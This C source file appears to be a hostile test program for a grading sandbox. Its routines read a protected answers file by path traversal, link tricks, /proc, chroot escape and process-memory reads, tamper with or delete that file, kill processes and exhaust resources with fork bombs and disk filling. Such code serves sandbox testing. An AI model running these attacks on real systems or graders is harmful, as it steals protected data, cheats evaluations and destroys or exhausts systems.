/* A guest program: attacks on whoever grades it. One that wants the answers prints them, and would pass the
 * test with them; the others harm something that the test looks at afterwards, or take without end.
 *
 * usage: attack NAME ANSWERS [ARGUMENT]
 *   ANSWERS is the path of a file that is none of this program's business. */
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

enum { PATH_SIZE = 4096 };

static const char *answers, *argument;

/* ---- what the attacks have in common ---- */

static int print_from(int fd) {
    char bytes[PATH_SIZE];
    ssize_t n = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes));
    if (n <= 0)
        return 1;
    return write(1, bytes, (size_t)n) == n ? 0 : 1;
}

static int print_file(const char *path) {
    return print_from(open(path, O_RDONLY));
}

/* "../../.." to the root, then the answers. */
static int print_from_above(const char *prefix) {
    char path[2 * PATH_SIZE];
    snprintf(path, sizeof(path), "%s../../../../../../../../../../../../..%s", prefix, answers);
    return print_file(path);
}

static int report(long result) {
    if (result < 0)
        perror("attack");
    return result < 0;
}

/* ---- getting at the answers ---- */

static int by_path(void) {
    return print_file(answers);
}

static int by_dots(void) {
    return print_from_above("");
}

static int by_link(void) {
    unlink("link");
    return report(symlink(answers, "link")) || print_file("link");
}

static int by_directory_link(void) {
    char path[PATH_SIZE];
    unlink("root");
    snprintf(path, sizeof(path), "root%s", answers);
    return report(symlink("/", "root")) || (print_file(path) && print_from_above("root/../"));
}

static int by_hard_link(void) {
    unlink("mine");
    return report(link(answers, "mine")) || print_file("mine");
}

static int by_proc_root(void) {
    static const char *const roots[] = {"/proc/1/root", "/proc/self/root", "/proc/thread-self/root",
                                        "/proc/self/cwd/", "/proc/1/cwd/"};
    char path[PATH_SIZE];
    for (size_t i = 0; i < sizeof(roots) / sizeof(*roots); i++) {
        snprintf(path, sizeof(path), "%s%s", roots[i], answers);
        if (print_file(path) == 0 || print_from_above(roots[i]) == 0)
            return 0;
    }
    return 1;
}

static int by_proc_descriptor(void) {
    char path[PATH_SIZE];
    for (int fd = 0; fd < 256; fd++) {
        snprintf(path, sizeof(path), "/proc/self/fd/%d/", fd);
        if (print_from_above(path) == 0)
            return 0;
        snprintf(path, sizeof(path), "/proc/self/fd/%d/answers.txt", fd);
        if (print_file(path) == 0)
            return 0;
    }
    return 1;
}

static int by_inherited_descriptor(void) {
    for (int fd = 0; fd < 256; fd++) {
        if (print_from(openat(fd, "answers.txt", O_RDONLY)) == 0)
            return 0;
        if (fchdir(fd) == 0 && print_file("answers.txt") == 0)
            return 0;
    }
    return 1;
}

/* A working directory that is moved up leaves ".." pointing where it was not checked. */
static int by_moved_directory(void) {
    mkdir("one", 0755);
    mkdir("one/two", 0755);
    if (report(chdir("one/two")) || report(rename("../two", "../../two")))
        return 1;
    return print_from_above("");
}

/* A name that is a directory when it is looked at and a link when it is used. */
static int by_racing_link(void) {
    char path[PATH_SIZE];
    mkdir("place", 0755);
    int directory = open("place", O_RDONLY | O_DIRECTORY);
    rmdir("place");
    if (report(directory) || report(symlink("/", "place")))
        return 1;
    snprintf(path, sizeof(path), "place%s", answers);
    return print_file(path) && print_from(openat(directory, answers + 1, O_RDONLY));
}

static int by_chroot(void) {
    mkdir("jail", 0755);
    int directory = open(".", O_RDONLY | O_DIRECTORY);
    if (report(chroot("jail")) || report(fchdir(directory)))
        return 1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return 1;
    return print_file(answers + 1);
}

static int by_path_descriptor(void) {
    int fd = open("/", O_PATH | O_DIRECTORY);
    return print_from(openat(fd, answers + 1, O_RDONLY));
}

static int by_rename(void) {
    return report(rename(answers, "taken")) || print_file("taken");
}

static int by_exec(void) {
    execl("/bin/cat", "cat", answers, (char *)NULL);
    return 1;
}

static int by_mapping(void) {
    int fd = open(answers, O_RDONLY);
    char *bytes = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    return bytes == MAP_FAILED || puts(bytes) < 0;
}

/* The disk itself: a device of our own making. */
static int by_device(void) {
    struct stat st;
    unlink("disk");
    dev_t device = stat("/dev/vda", &st) == 0 ? st.st_rdev : makedev(254, 0);
    return report(mknod("disk", S_IFBLK | 0600, device));
}

static int by_socket(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof(address.sun_path), "%s", argument);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return report(connect(fd, (struct sockaddr *)&address, sizeof(address))) || print_from(fd);
}

static int by_abstract_socket(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path + 1, sizeof(address.sun_path) - 1, "%s", argument);
    socklen_t length = (socklen_t)(sizeof(sa_family_t) + 1 + strlen(argument));
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return report(connect(fd, (struct sockaddr *)&address, length)) || print_from(fd);
}

static int by_network(void) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argument))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    return report(fd) || report(connect(fd, (struct sockaddr *)&address, sizeof(address))) || print_from(fd);
}

/* The memory of a process of the host, which holds the answers at a known address. */
static int by_process_memory(void) {
    char bytes[256] = "", *colon = strchr(argument, ':');
    struct iovec to = {bytes, sizeof(bytes) - 1},
                 from = {(void *)strtoul(colon + 1, NULL, 16), sizeof(bytes) - 1};
    if (report(process_vm_readv(atoi(argument), &to, 1, &from, 1, 0)))
        return 1;
    return fputs(bytes, stdout) < 0;
}

/* ---- doing harm ---- */

static int do_delete(void) {
    return report(unlink(answers));
}

static int do_overwrite(void) {
    int fd = open(answers, O_WRONLY | O_TRUNC);
    return report(fd) || report(write(fd, "mine\n", 5));
}

static int do_overwrite_by_descriptor(void) {
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", open(answers, O_RDONLY));
    int fd = open(path, O_RDWR);
    return report(fd) || report(ftruncate(fd, 0));
}

static int do_change_mode(void) {
    int fd = open(answers, O_RDONLY);
    return fd < 0 ? report(chmod(answers, 0777)) : report(fchmod(fd, 0777));
}

static int do_mark(void) {
    return report(setxattr(answers, "user.mine", "1", 1, 0));
}

static int do_truncate(void) {
    return report(truncate(answers, 0));
}

/* Beside the answers, where results may lie one day. */
static int do_plant(void) {
    char path[PATH_SIZE];
    snprintf(path, sizeof(path), "%s.planted", answers);
    return report(open(path, O_CREAT | O_WRONLY, 0666));
}

static int do_plant_socket(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof(address.sun_path), "%s", argument);
    return report(bind(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof(address)));
}

/* The grader's own temporary directory. */
static int do_spoil_scratch(void) {
    const char *parent = argument;
    char path[PATH_SIZE];
    int spoilt = 0;
    DIR *stream = opendir(parent);
    for (struct dirent *d; stream && (d = readdir(stream));) {
        if (strncmp(d->d_name, "thimble-check-", 14) != 0)
            continue;
        snprintf(path, sizeof(path), "%s/%s/spoilt", parent, d->d_name);
        spoilt += open(path, O_CREAT | O_WRONLY, 0666) >= 0;
    }
    return spoilt == 0;
}

static int do_kill(void) {
    return report(kill(atoi(argument), SIGKILL));
}

static int do_kill_all(void) {
    kill(-1, SIGKILL);
    return 1;
}

static int do_trace(void) {
    return report(ptrace(PTRACE_SEIZE, atoi(argument), NULL, NULL)) || do_kill();
}

static int do_leave_in_own_folder(void) {
    return report(open("left-behind", O_CREAT | O_WRONLY, 0666));
}

/* ---- taking without end ---- */

static int take_processes(void) {
    for (;;)
        fork();
    return 1;
}

static int take_sleepers(void) {
    for (;;)
        if (fork() == 0)
            for (;;)
                pause();
    return 1;
}

/* One after the other, each remembered by somebody. */
static int take_generations(void) {
    for (;;)
        if (fork() == 0)
            _exit(0);
        else
            wait(NULL);
    return 1;
}

static int take_output(void) {
    char bytes[65536];
    memset(bytes, 'x', sizeof(bytes));
    while (write(1, bytes, sizeof(bytes)) > 0 || write(2, bytes, sizeof(bytes)) > 0)
        ;
    return 1;
}

static int take_time(void) {
    for (volatile long i = 0;; i++)
        ;
    return 1;
}

static int take_time_asleep(void) {
    for (int s = 1; s < 32; s++)
        signal(s, SIG_IGN);
    for (;;)
        pause();
    return 1;
}

static int take_memory(void) {
    for (;;) {
        char *piece = malloc(1 << 20);
        if (piece)
            memset(piece, 1, 1 << 20);
    }
    return 1;
}

static int take_disk(void) {
    static char bytes[1 << 20];
    int fd = open("big", O_CREAT | O_WRONLY, 0666);
    memset(bytes, 'x', sizeof(bytes));
    signal(SIGXFSZ, SIG_IGN);
    for (;;)
        if (write(fd, bytes, sizeof(bytes)) < 0)
            fd = open("big2", O_CREAT | O_WRONLY | O_APPEND, 0666);
    return 1;
}

/* Files that nobody can see any more. */
static int take_disk_unseen(void) {
    static char bytes[1 << 20];
    memset(bytes, 'x', sizeof(bytes));
    for (;;) {
        int fd = open("unseen", O_CREAT | O_WRONLY | O_TRUNC, 0666);
        unlink("unseen");
        for (int i = 0; i < 16; i++)
            if (write(fd, bytes, sizeof(bytes)) < 0)
                break;
    }
    return 1;
}

static int take_names(void) {
    char name[32];
    for (unsigned long i = 0;; i++) {
        snprintf(name, sizeof(name), "n%lu", i);
        close(open(name, O_CREAT | O_WRONLY, 0666));
    }
    return 1;
}

/* Deeper than a path may be, and closed to everybody. */
static int take_depth(void) {
    for (int i = 0; i < 5000; i++)
        if (mkdir("deep", 0755) < 0 || chdir("deep") < 0)
            break;
    chmod(".", 0);
    return 1;
}

static int crash(void) {
    volatile int *nowhere = (volatile int *)strtoul("8", NULL, 0);
    return *nowhere;
}

static const struct {
    const char *name;
    int (*function)(void);
} attacks[] = {
    {"by-path", by_path},
    {"by-dots", by_dots},
    {"by-link", by_link},
    {"by-directory-link", by_directory_link},
    {"by-hard-link", by_hard_link},
    {"by-proc-root", by_proc_root},
    {"by-proc-descriptor", by_proc_descriptor},
    {"by-inherited-descriptor", by_inherited_descriptor},
    {"by-moved-directory", by_moved_directory},
    {"by-racing-link", by_racing_link},
    {"by-chroot", by_chroot},
    {"by-path-descriptor", by_path_descriptor},
    {"by-rename", by_rename},
    {"by-exec", by_exec},
    {"by-mapping", by_mapping},
    {"by-device", by_device},
    {"by-socket", by_socket},
    {"by-abstract-socket", by_abstract_socket},
    {"by-network", by_network},
    {"by-process-memory", by_process_memory},
    {"do-delete", do_delete},
    {"do-overwrite", do_overwrite},
    {"do-overwrite-by-descriptor", do_overwrite_by_descriptor},
    {"do-change-mode", do_change_mode},
    {"do-mark", do_mark},
    {"do-truncate", do_truncate},
    {"do-plant", do_plant},
    {"do-plant-socket", do_plant_socket},
    {"do-spoil-scratch", do_spoil_scratch},
    {"do-kill", do_kill},
    {"do-kill-all", do_kill_all},
    {"do-trace", do_trace},
    {"do-leave", do_leave_in_own_folder},
    {"take-processes", take_processes},
    {"take-sleepers", take_sleepers},
    {"take-generations", take_generations},
    {"take-output", take_output},
    {"take-time", take_time},
    {"take-time-asleep", take_time_asleep},
    {"take-memory", take_memory},
    {"take-disk", take_disk},
    {"take-disk-unseen", take_disk_unseen},
    {"take-names", take_names},
    {"take-depth", take_depth},
    {"crash", crash},
};

int main(int argc, char **argv) {
    answers = argc > 2 ? argv[2] : "/nowhere";
    argument = argc > 3 ? argv[3] : "";
    for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(*attacks); i++)
        if (strcmp(attacks[i].name, argv[1]) == 0)
            return attacks[i].function();
    fprintf(stderr, "attack: '%s' is none that is known\n", argc > 1 ? argv[1] : "");
    return 2;
}
